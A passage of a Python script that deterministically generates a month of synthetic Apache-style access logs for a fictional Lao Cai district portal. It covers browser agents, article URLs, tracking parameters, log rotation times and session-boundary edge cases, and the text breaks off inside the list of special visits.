"""Write the sample logs: a month of a fictional district portal, and one showcase log per format.

    python sample_logs/generate.py [--out DIR]

The visits are planned first, and the lines are generated from the plan. Then `figures` computes the
figures from the lines alone, by their definition. If they differ from the expected ones, no file is
written. The same seed gives the same bytes.
"""

from __future__ import annotations

import argparse
import gzip
import io
import ipaddress
import math
import random
import re
import sys
import unicodedata
import zlib
from bisect import bisect_right
from collections import Counter, defaultdict
from collections.abc import Callable, Iterable, Iterator, Sequence
from dataclasses import dataclass, field
from datetime import datetime, timedelta
from functools import cache, partial
from itertools import accumulate, pairwise
from pathlib import Path
from typing import Generic, NamedTuple, TypeVar
from urllib.parse import unquote

Item = TypeVar("Item")

# --- Expected figures -----------------------------------------------------------------------

SEED = 20261121
SITE = "batxat.laocai.gov.vn"
ORIGIN = f"https://{SITE}"

BASELINE = 1_594_322  # the count of the old counter on the evening before the first day
ONLINE, TODAY, WEEK, ALL_TIME = 23, 274, 3_716, 1_605_233
MAX_BYTES = 2_600_000  # of portal/, which is part of the repository

# Visits that begin on each day of November 2026; the 21st is counted up to the time of the figures.
VISITS_PER_DAY = (
    331,  # 1 November is a Sunday
    *(497, 516, 488, 509, 471, 352, 339),
    *(574, 592, 603, 581, 549, 402, 391),
    *(708, 695, 683, 701, 655),
    TODAY,
)
VISITS_AFTER = 6  # begin after the time of the figures, which must not include them

# --- Time: whole seconds since 1 November 2026, 00:00 at the portal (+0700) -------------------

DAY = 86_400
HOUR = 3_600
VISIT_GAP = 1_800
ONLINE_WINDOW = 600


def moment(day: int, clock: str) -> int:
    """Return the second at which the local clock shows `clock` on a day of November."""
    hours, minutes, seconds = clock.split(":")
    return (day - 1) * DAY + int(hours) * HOUR + int(minutes) * 60 + int(seconds)


T = moment(21, "10:00:00")
END = moment(21, "10:07:10")  # the time at which the sample was copied from the server

# cron.daily starts at 06:25 and runs logrotate a few seconds later. A new log is not
# rotated on its first day.
BY_HAND = moment(20, "21:40:12")  # the disk was nearly full, so an admin ran logrotate -f
DAILY = (moment(day, f"06:25:{2 + day * 7 % 5:02d}") for day in range(2, 22))
ROTATIONS = tuple(sorted([*DAILY, BY_HAND]))

# Share of a day's visits by hour, from midnight; a line is half a day.
WEEKDAY = (
    4, 2, 1, 1, 3, 12, 30, 58, 84, 82, 70, 50,
    46, 40, 62, 74, 70, 58, 46, 62, 74, 62, 34, 12,
)  # fmt: skip
WEEKEND = (
    6, 3, 2, 1, 3, 10, 28, 46, 62, 66, 62, 54,
    48, 42, 46, 50, 52, 48, 50, 66, 70, 58, 36, 14,
)  # fmt: skip
# Saturday the 21st: it froze at night, and at dawn everyone shares the news that schools stay closed.
FROST = (
    6, 3, 2, 2, 7, 26, 60, 78, 72, 64, 62, 54,
    48, 42, 46, 50, 52, 48, 50, 66, 70, 58, 36, 14,
)  # fmt: skip

VIEWS_IN_A_VISIT = ((50, 1), (22, 2), (11, 3), (7, 4), (4, 5), (3, 6), (2, 7), (1, 8))

# --- People -----------------------------------------------------------------------------------


class Agent(NamedTuple):
    """A browser: its weight, how its users arrive (a key of WAYS), its agent and its protocol."""

    weight: float
    way: str
    text: str
    protocol: str = "HTTP/2.0"


OLD = "HTTP/1.1"  # of browsers and proxies without HTTP/2
KHTML = "AppleWebKit/537.36 (KHTML, like Gecko)"
CHROME = "Chrome/147.0.0.0 Mobile Safari/537.36"
WEBVIEW = "Version/4.0 Chrome/146.0.7680.174 Mobile Safari/537.36"
ZALO = f"{WEBVIEW} Zalo android/25110640 ZaloTheme/light ZaloLanguage/vi"


def android(device: str, tail: str = CHROME) -> str:
    """Return the agent of a browser on an Android phone."""
    return f"Mozilla/5.0 (Linux; Android {device}) {KHTML} {tail}"


def iphone(system: str, tail: str) -> str:
    """Return the agent of a browser on an iPhone; all of them use WebKit."""
    webkit = "AppleWebKit/605.1.15 (KHTML, like Gecko)"
    return f"Mozilla/5.0 (iPhone; CPU iPhone OS {system} like Mac OS X) {webkit} {tail}"


def windows(version: str, tail: str) -> str:
    """Return the agent of a Chromium browser on Windows."""
    return f"Mozilla/5.0 (Windows NT {version}) {KHTML} {tail}"


# All of these are people's browsers. Bot lists misclassify those with a comment.
AGENTS = {
    # Since 2023 Chrome sends "K" in place of the phone's model: the most common agent.
    "android": Agent(17, "web", android("10; K")),
    "android-2": Agent(5, "web", android("10; K", "Chrome/146.0.0.0 Mobile Safari/537.36")),
    "oppo": Agent(5, "web", android("14; CPH2591 Build/UKQ1.230924.001")),
    # One list classifies this build, which many OPPO, realme and OnePlus phones have, as a crawler.
    "oppo-zalo": Agent(8, "zalo", android("15; CPH2557 Build/AP3A.240617.008; wv", ZALO)),
    "realme": Agent(4, "web", android("13; RMX3690 Build/SP1A.210812.016")),
    "realme-zalo": Agent(5, "zalo", android("15; RMX3834 Build/UP1A.231005.007; wv", ZALO)),
    "vivo": Agent(3, "web", android("14; V2311", f"{CHROME} VivoBrowser/13.8.4.0")),
    "vivo-zalo": Agent(4, "zalo", android("14; V2247 Build/UP1A.231005.007; wv", ZALO)),
    "xiaomi": Agent(
        3,
        "web",
        "Mozilla/5.0 (Linux; U; Android 13; vi-vn; 23021RAA2Y Build/TKQ1.221114.001) "
        f"{KHTML} Version/4.0 Chrome/112.0.5615.136 Mobile Safari/537.36 XiaoMi/MiuiBrowser/14.1",
    ),
    "redmi-facebook": Agent(
        4,
        "facebook",
        android(
            "13; 2201117TG Build/TKQ1.221114.001; wv",
            f"{WEBVIEW}[FBAN/EMA;FBLC/vi_VN;FBAV/486.0.0.13.118;]",
        ),
    ),
    "samsung": Agent(5, "web", android("10; K", "SamsungBrowser/29.0 Chrome/136.0.0.0 Mobile Safari/537.36")),
    "samsung-facebook": Agent(
        5,
        "facebook",
        android(
            "14; SM-A155F Build/UP1A.231005.007; wv",
            f"{WEBVIEW} [FB_IAB/FB4A;FBAV/537.0.0.49.97;]",
        ),
    ),
    "samsung-zalo": Agent(4, "zalo", android("14; SM-A057F Build/UP1A.231005.007; wv", ZALO)),
    "iphone": Agent(7, "web", iphone("18_7", "Version/26.1 Mobile/15E148 Safari/604.1")),
    "iphone-2": Agent(3, "web", iphone("17_6_1", "Version/17.6 Mobile/15E148 Safari/604.1")),
    "iphone-zalo": Agent(
        4, "zalo", iphone("18_7", "Mobile/22H20 Zalo iOS/700 ZaloTheme/light ZaloLanguage/vn")
    ),
    "iphone-facebook": Agent(
        4,
        "facebook",
        iphone(
            "17_6_1",
            "Mobile/21G93 [FBAN/FBIOS;FBAV/485.0.0.40.109;FBBV/657171404;FBDV/iPhone13,2;"
            "FBMD/iPhone;FBSN/iOS;FBSV/17.6.1;FBSS/3;FBID/phone;FBLC/vi_VN;FBOP/5;FBRV/0]",
        ),
    ),
    "iphone-google": Agent(2, "google", iphone("18_7", "GSA/396.0.823450186 Mobile/15E148 Safari/604.1")),
    "android-google": Agent(
        2, "google", android("14; CPH2481 Build/UKQ1.230924.001; wv", f"{WEBVIEW} GSA/16.44.40")
    ),
    "ipad": Agent(
        1,
        "web",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 "
        "(KHTML, like Gecko) Version/26.1 Safari/605.1.15",
    ),
    "windows": Agent(10, "web", windows("10.0; Win64; x64", "Chrome/147.0.0.0 Safari/537.36")),
    "windows-2": Agent(4, "web", windows("10.0; Win64; x64", "Chrome/146.0.0.0 Safari/537.36")),
    "windows-7": Agent(2, "web", windows("6.1; Win64; x64", "Chrome/109.0.0.0 Safari/537.36"), OLD),
    "edge": Agent(4, "web", windows("10.0; Win64; x64", "Chrome/147.0.0.0 Safari/537.36 Edg/147.0.0.0")),
    # Vietnam's own browser; its crawler is coccocbot.
    "coccoc": Agent(
        6,
        "coccoc",
        windows(
            "10.0; Win64; x64",
            "coc_coc_browser/142.0.196 Chrome/136.0.7103.196 Safari/537.36",
        ),
    ),
    "coccoc-phone": Agent(2, "coccoc", android("13; RMX3286", f"coc_coc_browser/131.0.144 {CHROME}")),
    "firefox": Agent(
        2, "web", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:144.0) Gecko/20100101 Firefox/144.0"
    ),
    "linux": Agent(
        0.6, "web", "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:143.0) Gecko/20100101 Firefox/143.0"
    ),
    # Internet Explorer calls itself "compatible", as crawlers do.
    "ie-11": Agent(0.6, "web", "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko", OLD),
    "ie-9": Agent(
        0.4,
        "web",
        "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; WOW64; Trident/5.0)",
        OLD,
    ),
    "ie-8": Agent(0.3, "web", "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0)", OLD),
    "uc": Agent(
        1,
        "web",
        "Mozilla/5.0 (Linux; U; Android 9; vi-VN; Redmi 7A Build/PKQ1.190319.001) "
        f"{KHTML} Version/4.0 Chrome/100.0.4896.58 UCBrowser/13.4.2.1307 Mobile Safari/537.36",
        OLD,
    ),
    # The only browser still in use whose agent does not begin with Mozilla/.
    "opera-mini": Agent(
        1,
        "web",
        "Opera/9.80 (Android; Opera Mini/36.2.2254/191.249; U; vi) Presto/2.12.423 Version/12.16",
        OLD,
    ),
    "opera": Agent(0.8, "web", android("12; M2006C3LG", f"{CHROME} OPR/92.0.0.0")),
    # A brand of phones whose name ends in "bot".
    "cubot": Agent(0.6, "web", android("11; CUBOT_NOTE_30")),
    "cubot-2": Agent(0.4, "zalo", android("12; CUBOT P60 Build/SP1A.210812.016; wv", ZALO)),
    # Lists have a crawler called Butterfly, and Viber's link preview.
    "htc": Agent(0.3, "web", android("5.0.2; HTC Butterfly 3 Build/LRX22G")),
    "viber": Agent(
        0.5, "web", android("13; SM-A135F Build/TP1A.220624.014; wv", f"{WEBVIEW} Viber/25.9.2.0")
    ),
    # A vendor that put quotes into the agent; Apache writes them as \".
    "tv": Agent(0.3, "web", android('9; \\"Smart\\" TV X96', "Chrome/91.0.4472.114 Safari/537.36")),
}

# Kinds of client IPs, all from ranges that nobody owns: documentation, carriers and benchmarks.
ADDRESSES = (
    (44, "carrier"),  # 100.64.0.0/10: a mobile carrier's NAT; strangers share one IP
    (24, "home"),  # 198.18.0.0/15: the connection of a household, shared by a family
    (30, "mobile"),  # 2001:db8::/32: the IPv6 of one phone
    (2, "school"),  # 198.51.100.0/24: a school or a clinic; many share one IP
)
BEHIND_ONE = {"carrier": (1, 3), "home": (1, 4), "mobile": (1, 1), "school": (8, 20)}
PEOPLE = 5_200
REGULAR = 1.15  # exponent of the distribution of visits per person; smaller gives a heavier tail
MOST_OFTEN = 45.0

# --- Articles and pages -----------------------------------------------------------------------

# Section: (day of publication in November, 0 and below for the days before; slug with its id).
ARTICLES: dict[str, tuple[tuple[int, str], ...]] = {
    "tin-tuc-su-kien": (
        (-262, "le-hoi-xuong-dong-xa-y-ty-nam-2026-104732"),
        (-190, "hoi-nghi-tiep-xuc-cu-tri-xa-muong-hum-105043"),
        (-121, "khanh-thanh-cau-dan-sinh-ban-lau-105340"),
        (-60, "ra-quan-don-dep-ve-sinh-moi-truong-dip-quoc-khanh-105604"),
        (-33, "khac-phuc-sat-lo-tinh-lo-156-qua-xa-trinh-tuong-105717"),
        (-12, "dem-hoi-trung-thu-o-ban-khoang-105808"),
        (-3, "bien-phong-tang-qua-hoc-sinh-vung-cao-105848"),
        (2, "khai-mac-hoi-thao-dan-toc-thieu-so-nam-2026-105870"),
        (5, "bang-gia-som-tren-dinh-nhiu-co-san-105882"),
        (9, "ngay-hoi-dai-doan-ket-toan-dan-toc-o-muong-vi-105898"),
        (11, "trao-nha-tinh-nghia-tai-xa-a-lu-105908"),
        (13, "doan-cong-tac-kiem-tra-cua-khau-phu-muong-vi-105917"),
        (16, "tuyen-duong-guong-nguoi-tot-viec-tot-105927"),
        (18, "to-chuc-giai-chay-vuot-may-y-ty-105939"),
        (20, "mit-tinh-ky-niem-ngay-nha-giao-viet-nam-105950"),
    ),
    "kinh-te-nong-nghiep": (
        (-230, "trong-thu-nghiem-cay-duong-quy-tai-den-sang-104873"),
        (-171, "nuoi-ca-hoi-tren-suoi-phin-ngan-105123"),
        (-98, "chuoi-xuat-khau-ban-vuoc-duoc-mua-105438"),
        (-47, "gat-lua-som-tranh-mua-dong-105658"),
        (-26, "mo-rong-vung-trong-xuyen-khung-105750"),
        (-9, "gia-gung-trau-tang-manh-105820"),
        (-2, "cho-phien-muong-hum-dong-khach-dau-mua-105851"),
        (1, "thu-hoach-lua-seng-cu-vu-mua-105865"),
        (4, "ky-thuat-giu-am-cho-trau-bo-mua-ret-105879"),
        (6, "san-pham-ocop-len-san-thuong-mai-dien-tu-105885"),
        (10, "ho-tro-giong-ngo-vu-dong-xuan-105903"),
        (12, "mo-hinh-nuoi-ong-mat-rung-nam-pung-105912"),
        (17, "hop-tac-xa-rau-trai-vu-y-ty-vao-vu-105935"),
        (19, "cap-phat-bat-che-chuong-trai-cho-cac-xa-105944"),
        (20, "du-bao-suong-muoi-vung-cao-105951"),
    ),
    "van-hoa-du-lich": (
        (-245, "cam-nang-san-may-y-ty-104807"),
        (-203, "nha-trinh-tuong-cua-nguoi-ha-nhi-104989"),
        (-154, "ruong-bac-thang-the-pa-mua-nuoc-do-105196"),
        (-110, "duong-len-cot-moc-92-lung-po-105387"),
        (-75, "le-khu-gia-gia-cua-nguoi-ha-nhi-105538"),
        (-52, "thac-rong-xanh-diem-den-moi-105638"),
        (-21, "mua-vang-o-thung-lung-ngai-thau-105768"),
        (-5, "lich-cho-phien-vung-cao-thang-11-105838"),
        (3, "chinh-phuc-ky-quan-san-mua-hoa-chi-pau-105874"),
        (5, "mon-ngon-ngay-lanh-o-cho-muong-hum-105883"),
        (7, "nghe-cham-bac-cua-nguoi-dao-do-105889"),
        (11, "homestay-choan-then-don-khach-cuoi-tuan-105909"),
        (14, "le-cap-sac-nguoi-dao-tai-toong-sanh-105921"),
        (18, "san-tuyet-o-y-ty-can-luu-y-gi-105940"),
        (19, "cung-duong-hoa-da-quy-den-bat-xat-105945"),
    ),
    "giao-duc-y-te": (
        (-216, "lich-tuyen-sinh-lop-10-nam-hoc-2026-2027-104931"),
        (-140, "kham-suc-khoe-luu-dong-tai-den-thang-105259"),
        (-83, "bep-an-ban-tru-am-long-tro-ngheo-105505"),
        (-55, "khai-giang-nam-hoc-moi-o-diem-truong-xa-nhat-105622"),
        (-18, "tiem-vac-xin-soi-cho-tre-duoi-5-tuoi-105782"),
        (-6, "tu-van-dinh-duong-cho-ba-me-vung-cao-105835"),
        (2, "thi-giao-vien-day-gioi-cap-huyen-105871"),
        (6, "phong-benh-ho-hap-khi-troi-chuyen-lanh-105886"),
        (8, "trao-xe-dap-cho-hoc-sinh-o-san-ma-sao-105894"),
        (10, "lop-hoc-xoa-mu-chu-buoi-toi-o-nam-chac-105904"),
        (12, "tram-y-te-xa-coc-my-dat-chuan-105913"),
        (17, "chuong-trinh-ao-am-cho-em-2026-105936"),
        (18, "hoi-dien-van-nghe-chao-mung-20-11-105941"),
        (19, "danh-sach-hoc-sinh-gioi-cap-huyen-105946"),
        (20, "hoc-sinh-nghi-hoc-tranh-ret-ngay-21-11-105952"),
    ),
    "cai-cach-hanh-chinh": (
        (-235, "huong-dan-nop-ho-so-truc-tuyen-104848"),
        (-167, "cap-can-cuoc-luu-dong-tai-thon-ban-105141"),
        (-105, "bo-phan-mot-cua-lam-viec-sang-thu-bay-105409"),
        (-64, "to-cong-nghe-so-cong-dong-ve-thon-105586"),
        (-29, "rut-ngan-thoi-gian-cap-giay-khai-sinh-105734"),
        (-14, "tra-ket-qua-thu-tuc-qua-buu-dien-105799"),
        (-7, "khao-sat-hai-long-cua-nguoi-dan-105830"),
        (3, "cong-khai-ket-qua-giai-quyet-ho-so-thang-10-105875"),
        (5, "thanh-toan-khong-dung-tien-mat-phi-le-phi-105884"),
        (9, "chu-ky-so-ca-nhan-mien-phi-cho-nguoi-dan-105899"),
        (11, "ngay-khong-hen-o-xa-quang-kim-105910"),
        (13, "lien-thong-khai-sinh-bao-hiem-y-te-105918"),
        (16, "dang-ky-ket-hon-co-yeu-to-nuoc-ngoai-105928"),
        (18, "doi-thoai-voi-doanh-nghiep-quy-4-105942"),
        (19, "hoi-dap-ve-dinh-danh-muc-2-105947"),
    ),
    "van-ban-chi-dao": (
        (-250, "quyet-dinh-phan-cong-nhiem-vu-2026-104787"),
        (-181, "ke-hoach-phong-chong-thien-tai-2026-105080"),
        (-126, "huong-dan-chi-tra-tro-cap-xa-hoi-105318"),
        (-77, "chi-thi-bao-dam-an-toan-giao-thong-105530"),
        (-41, "ke-hoach-tuyen-quan-nam-2027-105685"),
        (-16, "cong-van-trien-khai-tiem-phong-gia-suc-105790"),
        (-4, "quyet-dinh-dieu-chinh-quy-hoach-thi-tran-105842"),
        (2, "ke-hoach-phong-chong-doi-ret-cho-gia-suc-105872"),
        (4, "cong-dien-ung-pho-khong-khi-lanh-105880"),
        (6, "huong-dan-binh-xet-ho-ngheo-cuoi-nam-105887"),
        (10, "ke-hoach-kiem-tra-an-toan-thuc-pham-tet-105905"),
        (13, "quyet-dinh-bang-gia-dat-du-thao-105919"),
        (17, "ke-hoach-to-chuc-hoi-xuan-2027-105937"),
        (19, "cong-dien-ung-pho-ret-dam-ret-hai-105948"),
        (20, "lich-cong-tac-tuan-48-105953"),
    ),
    "thong-bao": (
        (-208, "thong-bao-tuyen-dung-vien-chuc-2026-104966"),
        (-133, "lich-tiep-cong-dan-cua-lanh-dao-105290"),
        (-69, "thong-bao-dau-gia-quyen-su-dung-dat-105562"),
        (-38, "lich-cat-dien-cac-xa-ha-huyen-105696"),
        (-19, "cam-duong-tam-thoi-deo-y-ty-105779"),
        (-10, "thong-bao-treo-co-to-quoc-105819"),
        (-1, "lich-cat-dien-thang-11-105854"),
        (1, "nhan-ho-so-thi-tuyen-cong-chuc-dot-2-105866"),
        (4, "thong-bao-lay-y-kien-bang-gia-dat-105881"),
        (7, "lich-tiem-chung-mo-rong-thang-11-105892"),
        (9, "ket-qua-so-tuyen-vien-chuc-giao-duc-105900"),
        (12, "lich-cat-nuoc-thi-tran-bat-xat-105914"),
        (16, "tam-dung-xe-tai-qua-cau-quang-kim-105929"),
        (19, "canh-bao-bang-gia-tren-deo-y-ty-105949"),
        (20, "lich-truc-cap-cuu-cuoi-tuan-105954"),
    ),
    "nong-thon-moi": (
        (-224, "xa-ban-qua-ve-dich-nong-thon-moi-104896"),
        (-160, "hien-dat-lam-duong-o-coc-san-105173"),
        (-118, "duong-be-tong-ve-thon-lao-vang-105354"),
        (-88, "nha-van-hoa-thon-kieu-mau-105480"),
        (-45, "nuoc-sach-ve-ban-kin-chu-phin-105666"),
        (-24, "thap-sang-duong-que-o-ban-xeo-105757"),
        (-8, "xoa-nha-tam-truoc-mua-dong-105827"),
        (1, "ket-qua-9-thang-chuong-trinh-muc-tieu-105867"),
        (3, "phu-nu-xa-trinh-tuong-trong-duong-hoa-105876"),
        (8, "cung-co-tieu-chi-moi-truong-o-muong-vi-105895"),
        (10, "thon-thong-minh-dau-tien-cua-huyen-105906"),
        (12, "vay-von-uu-dai-sua-nha-o-pa-cheo-105915"),
        (14, "ban-lam-du-lich-cong-dong-o-seo-pa-cheo-105922"),
        (17, "tham-dinh-xa-nong-thon-moi-nang-cao-105938"),
        (18, "ngay-chu-nhat-xanh-o-hop-thanh-105943"),
    ),
}

# Articles that are shared again and again: their share of all article views on any day.
ALWAYS_READ = {
    "le-hoi-xuong-dong-xa-y-ty-nam-2026-104732": 0.055,
    "cam-nang-san-may-y-ty-104807": 0.035,
}
# Articles that everyone reads for a day or two: their share of all article views on that day.
RUSH = {
    (2, "ke-hoach-phong-chong-doi-ret-cho-gia-suc-105872"): 0.08,
    (5, "bang-gia-som-tren-dinh-nhiu-co-san-105882"): 0.22,
    (6, "bang-gia-som-tren-dinh-nhiu-co-san-105882"): 0.13,
    (12, "lich-cat-nuoc-thi-tran-bat-xat-105914"): 0.12,
    (18, "san-tuyet-o-y-ty-can-luu-y-gi-105940"): 0.09,
    (19, "san-tuyet-o-y-ty-can-luu-y-gi-105940"): 0.15,
    (20, "mit-tinh-ky-niem-ngay-nha-giao-viet-nam-105950"): 0.12,
    (20, "hoc-sinh-nghi-hoc-tranh-ret-ngay-21-11-105952"): 0.25,
    (21, "hoc-sinh-nghi-hoc-tranh-ret-ngay-21-11-105952"): 0.44,
    (21, "canh-bao-bang-gia-tren-deo-y-ty-105949"): 0.10,
}

# Pages that are not articles. Several rows are the same page under different URLs.
PAGES = (
    (10, "/gioi-thieu"),
    (8, "/dich-vu-cong"),
    (6, "/lien-he"),
    (5, "/lich-tiep-cong-dan"),
    (4, "/thu-vien-anh?album=12&anh=3"),
    (3, "/hoi-dap/"),
    (2, "/so-do-cong"),
    (2, "/hoi-dap?trang=2"),
    # sid and pageid identify the page, although sid looks like a session
    (3, "/Default.aspx?sid=1289&pageid=27344"),
    (2, "/Default.aspx?sid=1289&pageid=27401"),
    # one page: upper-case hex, lower-case hex, and decomposed letters (NFD), which iPhones send
    (3, "/du-l%E1%BB%8Bch/y-t%C3%BD"),
    (2, "/du-l%e1%bb%8bch/y-t%c3%bd"),
    (1, "/du-li%CC%A3ch/y-ty%CC%81"),
    (1, "//gioi-thieu"),
    (1, "/gioi-thieu/./index.html"),
)

SEARCHES = (
    (6, "/tim-kiem?q=b%C3%A1t%20x%C3%A1t"),
    (4, "/tim-kiem?q=b%C3%A1t+x%C3%A1t"),
    (4, "/tim-kiem?q=l%E1%BB%8Bch+c%E1%BA%AFt+%C4%91i%E1%BB%87n"),
    (3, "/tim-kiem?q=y+t%C3%BD"),
    (3, "/tim-kiem?q=ngh%E1%BB%89%20h%E1%BB%8Dc"),
    (2, "/tim-kiem?q=th%e1%bb%a7+t%e1%bb%a5c&page=2"),
    (2, "/tim-kiem?q=tuy%E1%BB%83n+d%E1%BB%A5ng"),
    # Internet Explorer sends the letters without encoding, and Apache escapes them
    (1, "/tim-kiem?q=b\\xc3\\xa1t+x\\xc3\\xa1t"),
    (1, '/tim-kiem?q=\\"y+ty\\"'),
    (1, "/tim-kiem?q="),
)

QUOTED = 'https://duckduckgo.com/?q=\\"b%C3%A1t x%C3%A1t\\"'
# Way of arrival: (share, referrer, kind of page, tracking). "search" is a search on the portal itself.
WAYS: dict[str, tuple[tuple[float, tuple[str, str, str]], ...]] = {
    "web": (
        (30, ("-", "home", "")),
        (8, ("-", "article", "")),
        (4, ("-", "section", "")),
        (30, ("https://www.google.com/", "article", "")),
        (8, ("https://www.google.com/", "home", "")),
        (4, ("https://www.google.com.vn/", "article", "")),
        (4, ("https://www.laocai.gov.vn/", "home", "")),
        (3, ("https://www.bing.com/", "article", "")),
        (2, ("https://www.google.com/", "page", "")),
        (2, ("-", "search", "")),
        (2, ("https://id.zalo.me/", "article", "zalo")),
        (1, ("https://www.google.com/", "article", "ads")),
        (1, ("-", "article", "mail")),
        (0.5, (QUOTED, "article", "")),
    ),
    "zalo": (
        (60, ("-", "article", "zalo")),
        (12, ("-", "article", "")),
        (6, ("-", "home", "zalo-home")),
        (4, ("https://zalo.me/", "article", "zalo")),
    ),
    "facebook": (
        (50, ("http://m.facebook.com/", "article", "facebook")),
        (25, ("https://l.facebook.com/", "article", "facebook")),
        (8, ("-", "article", "page-post")),
        (4, ("https://lm.facebook.com/", "home", "facebook")),
    ),
    "google": (
        (50, ("https://www.google.com/", "article", "")),
        (25, ("android-app://com.google.android.googlequicksearchbox/", "article", "")),
        (10, ("https://www.google.com/", "home", "")),
    ),
    "coccoc": (
        (30, ("https://coccoc.com/search?query=b%C3%A1t+x%C3%A1t", "home", "")),
        (20, ("https://coccoc.com/search?query=y+t%C3%BD+l%C3%A0o+cai", "article", "")),
        (20, ("-", "home", "")),
        (16, ("https://www.google.com/", "article", "")),
        (3, ("https://coccoc.com/", "article", "coccoc")),
    ),
}

# {share} is the same for everyone who follows one shared link, {click} is new at every click.
TRACKING = {
    "zalo": "zarsrc=30&utm_source=zalo&utm_medium=zalo&utm_campaign=zalo&gidzl={share}",
    "zalo-home": "gidzl={share}",
    "facebook": "fbclid=IwY2xjawN{click}",
    "page-post": "utm_source=facebook&utm_medium=social&utm_content=bai-dang&fbclid=IwAR0{click}",
    "ads": "gad_source=1&gclid=EAIaIQobChMI{click}",
    "mail": "utm_source=ban-tin&utm_medium=email&utm_campaign=tuan-46",
    "coccoc": "utm_source=coccoc&utm_medium=cpc&md=_{click}",
}
SHARED_LINKS = 90

# The next page: from a kind of page to a kind of page. "again" is a reload.
NEXT = {
    "home": ((66, "article"), (20, "section"), (6, "page"), (4, "search"), (4, "again")),
    "article": ((56, "article"), (20, "home"), (14, "section"), (3, "page"), (7, "again")),
    "section": ((64, "article"), (22, "section"), (10, "home"), (4, "again")),
    "page": ((40, "home"), (30, "article"), (26, "page"), (4, "again")),
    "search": ((60, "article"), (25, "search"), (15, "home")),
}
HOMES = ((94, "/"), (4, "/index.html"), (1, "/?page=1"), (1, "/index.htm"))
FRONTS = ((74, ""), (9, "/"), (11, "?page=2"), (4, "?page=3"), (2, "/index.html"))
ENDINGS = ((95, ""), (3, "/"), (1, "#binh-luan"), (1, ";jsessionid=1F4B8D0C6E2A93577C10"))

# --- Assets and other requests ----------------------------------------------------------------

THEME = (
    (10, "/css/portal.css?v=31"),
    (8, "/js/portal.min.js?v=31"),
    (7, "/images/logo.png"),
    (5, "/favicon.ico"),
    (4, "/fonts/be-vietnam-pro-400.woff2"),
    (4, "/images/banner-mua-thu.webp"),
    (3, "/fonts/be-vietnam-pro-700.woff2"),
    (3, "/css/in.css"),
    (2, "/images/icons.svg"),
    (1, "/manifest.json"),
    (1, "/js/portal.min.js.map"),
    (0.5, "/media/le-hoi-gau-tao.mp4"),
)


SMALL = {"/robots.txt": 187, "/favicon.ico": 1_150, "/images/logo.png": 8_412, "/css/in.css": 977}


class Asked(NamedTuple):
    """A request and its response: method, path, status, size in bytes."""

    method: str
    path: str
    status: int
    size: int


# Requests by people that are not page views.
BESIDE = (
    (30, Asked("GET", "/images/cu/banner-2019.jpg", 404, 1245)),
    (20, Asked("POST", "/luot-xem", 204, 0)),
    (14, Asked("GET", "/trang-chu", 301, 312)),
    (12, Asked("POST", "/binh-luan", 302, 0)),
    (8, Asked("GET", "/tin-tuc-su-kien/hop-bao-quy-3-99812", 404, 6127)),
    (6, Asked("HEAD", "/", 200, 0)),
    (5, Asked("POST", "/tim-kiem", 200, 15230)),
    (4, Asked("GET", "/rss", 200, 22816)),
    (3, Asked("GET", "/quan-tri/", 403, 1199)),
    (2, Asked("GET", "/tin-tuc-su-kien/feed/", 200, 9421)),
    (1, Asked("GET", "/thu-vien-anh?album=99", 500, 530)),
    (1, Asked("GET", "/dich-vu-cong", 503, 299)),
)

# --- Visits that cover special cases ----------------------------------------------------------


class Special(NamedTuple):
    """Page views at `clock` on `day` and after each of `gaps` (seconds); `between` is not a page view."""

    why: str
    client: str
    agent: str
    day: int
    clock: str
    gaps: tuple[int, ...] = ()
    between: str = ""  # a request in the middle of the last gap: a key of BETWEEN
    paths: tuple[str, ...] = ()


# Requests that do not continue a visit.
BETWEEN = {
    "asset": Asked("GET", "/images/logo.png", 200, 8_412),
    "missing": Asked("GET", "/tin-tuc-su-kien/hop-bao-quy-3-99812", 404, 6_127),
    "post": Asked("POST", "/binh-luan", 302, 0),
    "head": Asked("HEAD", "/", 200, 0),
    "moved": Asked("GET", "/trang-chu", 301, 312),
    "feed": Asked("GET", "/rss", 200, 22_816),
}
DOCUMENTS = (
    "/tai-lieu/ke-hoach-phong-chong-doi-ret-2026.pdf",
    "/tai-lieu/bieu-mau-01-to-khai.docx",
    "/tai-lieu/danh-sach-ho-ngheo-2026.xlsx",
)

SPECIALS = (
    Special("a gap of 29:59 goes on", "198.51.100.201", "iphone", 3, "09:10:00", (1_799,)),
    Special("a gap of 30:00 goes on", "198.51.100.202", "oppo", 3, "14:20:11", (1_800,)),
    Special("a gap of 30:01 does not", "198.51.100.203", "vivo", 3, "19:30:00", (1_801,)),
    Special("all three", "2001:db8:1c00:77::3", "android", 11, "08:00:00", (1_799, 1_800, 1_801)),
    Special("all three, today", "198.51.100.204", "coccoc", 21, "06:40:09", (1_801, 1_800, 1_799)),
    Special("six hours in one visit", "198.51.100.205", "windows-7", 12, "08:01:00", (1_790,) * 12),
    Special("over midnight", "198.51.100.206", "realme", 1, "23:52:10", (840,)),
    Special("over midnight, 30:00", "198.51.100.207", "android", 7, "23:45:00", (1_800, 20)),
    Special("last week's, read this week", "198.51.100.208", "iphone", 15, "23:48:30", (1_800,)),
    Special("one last week, one this", "198.51.100.209", "samsung", 15, "23:48:30", (1_801,)),
    Special("last week's last second", "198.51.100.210", "edge", 15, "23:59:59"),
    Special("this week's first second", "198.51.100.211", "edge", 16, "00:00:00"),
    Special("yesterday's, over midnight", "198.51.100.212", "oppo-zalo", 20, "23:41:00", (1_500,)),
    Special("yesterday's last second", "198.51.100.213", "iphone-2", 20, "23:59:59"),
    Special("today's first second", "198.51.100.214", "iphone-2", 21, "00:00:00"),
    Special("over the rotation", "198.51.100.215", "android", 2, "06:20:00", (400, 90)),
    Special("over the rotation", "198.51.100.216", "oppo", 9, "06:24:58", (2, 2, 2, 2, 2)),
    Special("over it, 30:00", "198.51.100.217", "vivo-zalo", 16, "06:10:00", (1_800,)),
    Special("over it, 30:01", "198.51.100.218", "realme", 16, "06:10:00", (1_801,)),
    Special("over it, yesterday", "2001:db8:1c00:a1::9", "iphone", 20, "06:12:44", (1_200, 30)),
    Special("over the one by hand", "198.51.100.237", "redmi-facebook", 20, "21:38:00", (300,)),
